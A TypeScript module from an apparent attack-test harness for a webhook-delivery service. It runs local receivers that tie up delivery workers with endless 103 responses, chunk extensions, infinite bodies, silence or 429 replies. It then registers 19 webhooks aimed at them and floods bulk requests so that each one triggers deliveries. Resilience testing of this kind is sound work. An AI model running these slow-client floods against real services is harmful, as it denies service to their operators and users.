/**
 * Starts webhook receivers that slow down the service's delivery workers, and creates webhooks that point to these
 * receivers. The receivers run as long as the attacker process.
 */
import { once } from "node:events"
import { type AddressInfo, createServer, type Socket } from "node:net"
import { type Attack, type AttackCredential, getCyclicElement } from "./Attack.ts"

export const receiverKinds = ["endless 103", "endless chunk extension", "endless body", "never answers", "429"] as const
export type ReceiverKind = (typeof receiverKinds)[number]

const floods: Readonly<Partial<Record<ReceiverKind, readonly [head: string, repeated: string]>>> = {
  "endless 103": ["", `HTTP/1.1 103 Early Hints\r\nLink: </${"x".repeat(4000)}>\r\n\r\n`.repeat(16)],
  "endless chunk extension": ["HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n1;", "x".repeat(65_536)],
  "endless body": ["HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n", `10000\r\n${"x".repeat(65_536)}\r\n`]
}

const flood = (socket: Socket, [head, repeated]: readonly [string, string]) => {
  socket.write(head)
  const more = () => {
    while (!socket.destroyed && socket.write(repeated));
  }
  socket.on("drain", more)
  more()
}

const busy = "HTTP/1.1 429 Too Many Requests\r\nRetry-After: 3\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"

const open = async (kind: ReceiverKind): Promise<number> => {
  const server = createServer((socket) => {
    socket.on("error", () => {})
    socket.once("data", () => {
      const repeated = floods[kind]
      if (kind === "429") socket.end(busy)
      else if (repeated !== undefined) flood(socket, repeated)
    })
  })
  server.listen(0, "127.0.0.1")
  await once(server, "listening")
  return (server.address() as AddressInfo).port
}

/** Creates as many webhooks as an environment may contain, and returns the ids of the webhooks. */
export const createWebhooks =
  (by: AttackCredential, ...led: ReadonlyArray<ReceiverKind>): NonNullable<Attack["prepare"]> =>
  async ({ attacker }, call) => {
    const ports = await Promise.all(led.map(open))
    const old = await call({ method: "GET", path: "/partner/v1/webhooks", by })
    for (const { id } of (old.data ?? []) as ReadonlyArray<{ readonly id: string }>) {
      if (id !== attacker.webhook) await call({ method: "DELETE", path: `/partner/v1/webhooks/${id}`, by })
    }
    const ids: Array<string> = []
    for (let nth = 0; nth < 19; nth++) {
      const body = JSON.stringify({
        url: `http://127.0.0.1:${getCyclicElement(ports, nth)}/${nth}`,
        events: ["commentary.failed"]
      })
      const { data } = await call({ method: "POST", path: "/partner/v1/webhooks", by, body })
      if (data?.id !== undefined) ids.push(data.id)
    }
    return ids
  }

/**
 * Creates webhooks in the test environment and sends bulk requests. A simulated creator declines each topic
 * immediately, and each refusal produces an event.
 */
export const makeDeliveryAttack = (...led: ReadonlyArray<ReceiverKind>): Attack => ({
  prepare: createWebhooks("test", ...led),
  connections: 2,
  lasts: 4000,
  ask: (_, nth) => ({
    method: "POST",
    path: "/partner/v1/topics/bulk",
    by: "test",
    body: JSON.stringify({
      topics: Array.from({ length: 50 }, (__, each) => ({
        content: `Who declines match ${nth} ${each} of ${process.pid}?`,
        persona_ids: ["7e570000-0000-4000-8000-000000000002"]
      }))
    })
  })
})
